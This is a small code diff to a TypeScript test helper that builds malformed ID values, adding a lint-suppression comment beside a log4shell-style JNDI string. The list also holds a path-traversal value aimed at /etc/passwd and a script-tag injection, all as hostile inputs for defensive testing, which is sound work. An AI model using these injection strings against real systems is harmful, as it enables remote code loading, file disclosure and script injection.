@@ -65,6 +65,7 @@ export function malformedValues(liveId: string, wire: (id: string) => string, un
     { label: 'constructor', value: 'constructor' },
     { label: 'null', value: 'null' },
     { label: 'a path', value: '../../../etc/passwd' },
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style string is the hostile value under test
     { label: 'a template', value: '${jndi:ldap://example.com/a}' },
     { label: 'markup', value: '<script>alert(1)</script>' },
     { label: 'JSON', value: `{"id":"${liveId}"}` },
